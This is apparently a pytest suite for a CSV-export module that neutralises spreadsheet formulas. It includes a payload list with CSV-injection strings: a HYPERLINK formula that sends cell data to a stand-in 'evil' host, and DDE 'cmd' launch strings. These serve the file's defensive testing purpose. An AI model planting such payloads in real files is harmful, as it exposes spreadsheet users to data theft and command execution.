"""CSV formula neutralising (DESIGN.md §8; issue 9): text cells a spreadsheet would run are written as text."""

from __future__ import annotations

import io
import math
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from geo.errors import GeoInputError
from geo.exports import export
from geo.exports.safe_csv import csv_text, is_formula, neutralise_formulas

PAYLOADS = [
    '=HYPERLINK("http://evil/?x="&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1)",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
ROOT = Path(__file__).resolve().parents[1]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_formula_payload_gets_an_apostrophe(payload: str) -> None:
    table = pd.DataFrame({"note": [payload, "Kostanay"], "value": [-5.0, 3.0]})
    out = neutralise_formulas(table)
    assert out["note"].tolist() == [f"'{payload}", "Kostanay"]
    assert out["value"].tolist() == [-5.0, 3.0]  # numbers stay numbers
    assert table["note"].tolist() == [payload, "Kostanay"]  # the caller's frame is not modified


def test_numbers_and_number_text_stay_and_headers_are_cells_too() -> None:
    table = pd.DataFrame(
        {
            "=cmd()": ["-5", "+3.25", "-1e3", "-", "-x", None],
            "n": pd.array([-5, 2, None, 1, 0, 7], dtype="Int64"),
            "s": pd.array(["@a", "b", None, "=c", "d", "e"], dtype="string"),
        }
    )
    out = neutralise_formulas(table)
    assert list(out.columns) == ["'=cmd()", "n", "s"]
    assert out.iloc[:, 0].tolist()[:5] == ["-5", "+3.25", "-1e3", "-", "'-x"]
    assert pd.isna(out.iloc[5, 0])
    assert out["n"].dtype == "Int64" and out["n"].tolist()[:2] == [-5, 2]
    assert out["s"].tolist()[:2] == ["'@a", "b"] and out["s"].tolist()[3] == "'=c"


def test_keep_writes_raw_and_a_bad_option_is_a_one_line_error() -> None:
    table = pd.DataFrame({"note": PAYLOADS})
    assert neutralise_formulas(table, formulas="keep") is table
    with pytest.raises(GeoInputError, match="csv_formulas must be one of 'neutralise', 'keep'"):
        neutralise_formulas(table, formulas="escape")
    with pytest.raises(GeoInputError, match="csv_formulas"):
        export(".", fmt="csv", csv_formulas="raw")


def _table(payloads: list[str]) -> pd.DataFrame:
    regions = ["Aktobe", "Omsk", "Orenburg", "Kostanay", "Atyrau", "Astrakhan"][: len(payloads)]
    return pd.DataFrame(
        {"region": regions, "note": payloads, "value": [-5.0 - i for i in range(len(payloads))]}
    )


def test_csv_export_neutralises_a_joined_table(tmp_path: Path) -> None:
    export(tmp_path, fmt="csv", layers=["regions"], data=_table(PAYLOADS))
    out = pd.read_csv(tmp_path / "regions.csv", dtype=str, keep_default_na=False).set_index("name_en")
    assert sorted(out["note"].loc[out["note"] != ""]) == sorted(f"'{p}" for p in PAYLOADS)
    assert {float(v) for v in out["value"] if v} == {-5.0 - i for i in range(len(PAYLOADS))}  # numbers raw
    assert not any(is_formula(v) for v in out.to_numpy().ravel() if not _number(v))


def _number(text: str) -> bool:
    try:
        return math.isfinite(float(text))
    except ValueError:
        return False


def test_cli_keeps_formulas_raw_only_when_asked(tmp_path: Path) -> None:
    table = tmp_path / "t.csv"
    _table(PAYLOADS[:4]).to_csv(table, index=False)
    for flag, expect in [([], "'=HYPERLINK"), (["--csv-formulas", "keep"], "=HYPERLINK")]:
        out = tmp_path / f"regions{len(flag)}.csv"
        cmd = [sys.executable, "-m", "geo.cli", "export", "-o", str(out), "--layers", "regions"]
        done = subprocess.run(
            [*cmd, "--data", str(table), *flag], capture_output=True, text=True, cwd=ROOT, check=False
        )
        assert done.returncode == 0, done.stderr
        notes = pd.read_csv(out, dtype=str, keep_default_na=False)["note"]
        assert any(v.startswith(expect) for v in notes)


_cells = st.one_of(
    st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=12),
    st.sampled_from(["=1+1", "+1", "-1", "-x", "@x", "\t=x", "\r=x", "'=x", "Кокшетау", ""]),
)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    texts=st.lists(_cells, min_size=1, max_size=8),
    numbers=st.lists(st.floats(allow_nan=False, allow_infinity=False, width=32), min_size=1, max_size=8),
    keep=st.booleans(),
)
def test_csv_write_read_round_trip(texts: list[str], numbers: list[float], keep: bool) -> None:
    n = min(len(texts), len(numbers))
    table = pd.DataFrame({"text": texts[:n], "number": numbers[:n]})
    written = csv_text(table, formulas="keep" if keep else "neutralise")
    back = pd.read_csv(io.StringIO(written), dtype={"text": str}, keep_default_na=False)
    expected = [t if keep or not is_formula(t) else f"'{t}" for t in texts[:n]]
    assert back["text"].tolist() == expected
    assert back["number"].astype(float).tolist() == [float(x) for x in numbers[:n]]
    if not keep:
        assert not any(is_formula(t) for t in back["text"])
